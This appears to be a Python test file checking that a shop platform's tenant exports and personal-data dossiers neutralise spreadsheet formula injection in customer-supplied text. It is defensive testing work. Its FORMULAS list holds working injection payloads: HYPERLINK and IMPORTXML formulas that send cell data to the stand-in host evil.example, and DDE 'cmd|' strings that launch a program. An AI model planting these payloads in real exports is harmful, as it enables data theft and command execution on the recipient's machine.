"""What a customer writes must not become a formula when the shop's owner opens an export with a spreadsheet."""

from __future__ import annotations

import csv
import json
import re
from pathlib import Path
from typing import Any, cast

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.unit.privacy.test_contact_rights import ANA, Shop, phone, shop

from smarteros.kit.exported_json import inert
from smarteros.tenants.export import export_tenant

__all__ = ["shop"]
SOURCE = Path(__file__).parents[2] / "src" / "smarteros"
FORMULAS = (
    '=HYPERLINK("http://evil.example?x="&A1,"ver mi pedido")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://evil.example?",A1:Z9),"//a")',
    'hola,=HYPERLINK("http://evil.example")',
    "hola;@SUM(A1:A9)\t=1+1\n=1+1|=1+1",
)
# However a spreadsheet cuts a line into cells.
SEPARATORS = (",", ";", "\t", "|", " ", ":")


def cells(text: str) -> list[str]:
    """Every cell any spreadsheet could see in a text, without the quotation marks it takes off."""
    found: list[str] = []
    for separator in SEPARATORS:
        for row in csv.reader(text.splitlines(), delimiter=separator):
            found += [cell.strip(" \"'\\{[\r") for cell in row]
    return found


def is_active(cell: str) -> bool:
    return cell.startswith(("=", "+", "@")) or "cmd|" in cell


class NoSecrets:
    """A keeper with nothing in it."""

    def entries(self, _scope: object) -> tuple[()]:
        return ()


def json_values() -> st.SearchStrategy[object]:
    leaf = (
        st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text() | st.sampled_from(FORMULAS)
    )
    return st.recursive(leaf, lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner), max_leaves=12)


@settings(max_examples=40)
@given(json_values())
def test_an_inert_text_means_the_same_and_no_cell_of_it_is_a_formula(value: object) -> None:
    for ascii_only in (True, False):
        text = inert(json.dumps(value, ensure_ascii=ascii_only))
        assert json.loads(text) == value
        assert not any(is_active(cell) for cell in cells(text))


@pytest.mark.parametrize("formula", FORMULAS)
def test_the_formulas_would_work_in_plain_json(formula: str) -> None:
    assert any(is_active(cell) for cell in cells(json.dumps({"name": formula}, ensure_ascii=False)))


def test_an_export_of_a_shop_holds_no_formula_whatever_its_customers_are_called(shop: Shop, tmp_path: Path) -> None:
    for number, formula in enumerate(FORMULAS):
        shop.turn(ANA.model_copy(update={"id": 900 + number, "name": formula}), 900 + number, 900 + number, formula)
    export_tenant(shop.database, cast("Any", NoSecrets()), shop.tenant, tmp_path / "out")

    files = sorted((tmp_path / "out").iterdir())
    written = {file.name: file.read_text("utf-8") for file in files}
    assert [name for name, text in written.items() if any(is_active(cell) for cell in cells(text))] == []
    told = [json.loads(line) for line in written["received_events.jsonl"].splitlines()]
    assert {row["message"]["text"] for row in told} >= set(FORMULAS)


def test_what_a_person_is_told_of_himself_holds_no_formula(shop: Shop) -> None:
    dossier = shop.rights.export(shop.tenant, phone(ANA.phone)).model_dump(mode="json")
    text = inert(json.dumps(dossier, ensure_ascii=False, indent=2))
    assert json.loads(text) == dossier
    assert not any(is_active(cell) for cell in cells(text))


def test_nothing_writes_a_spreadsheets_own_format() -> None:
    """Whoever adds such an export must make its cells inert first, and say so here."""
    imports = re.compile(r"^\s*(?:import|from) (?:csv|openpyxl|xlsxwriter)\b", re.MULTILINE)
    assert [path.name for path in SOURCE.rglob("*.py") if imports.search(path.read_text("utf-8"))] == []
